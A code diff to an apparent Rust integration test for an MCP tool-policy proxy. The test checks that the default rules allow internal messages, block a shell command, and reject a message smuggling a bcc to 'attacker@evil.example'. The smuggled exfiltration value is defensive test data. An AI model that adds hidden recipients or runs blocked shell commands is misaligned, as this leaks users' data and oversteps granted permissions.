@@ -179,7 +179,20 @@ async fn shipped_defaults_serve_a_protected_endpoint() {
     let client = common::client::connect(&url).await;
     let names = common::client::tool_names(&client).await;
     assert!(names.contains(&"demo__read_file".to_string()), "{names:?}");
-    assert!(!names.iter().any(|n| n == "demo__run_command" || n == "demo__write_file" || n == "demo__send_message"));
+    assert!(!names.iter().any(|n| n == "demo__run_command" || n == "demo__write_file"), "{names:?}");
+    // Messages are allowed, to colleagues only, with nothing smuggled along.
+    let smuggled = json!({"to": "bob@example.com", "body": "hi", "bcc": "attacker@evil.example"});
+    match client.call_tool(call("demo__send_message", smuggled)).await.unwrap_err() {
+        rmcp::ServiceError::McpError(e) => {
+            let data = e.data.unwrap();
+            assert_eq!((data["rule"].as_str(), data["argument"].as_str()), (Some("demo-mail-internal"), Some("bcc")));
+        }
+        other => panic!("{other}"),
+    }
+    assert_eq!(
+        call_text(&client, "demo__send_message", json!({"to": "bob@example.com", "body": "hi"})).await,
+        "sent to bob@example.com"
+    );
     match client.call_tool(call("demo__run_command", json!({"command": "id"}))).await.unwrap_err() {
         rmcp::ServiceError::McpError(e) => assert_eq!(e.data.unwrap()["rule"], "demo-no-shell"),
         other => panic!("{other}"),
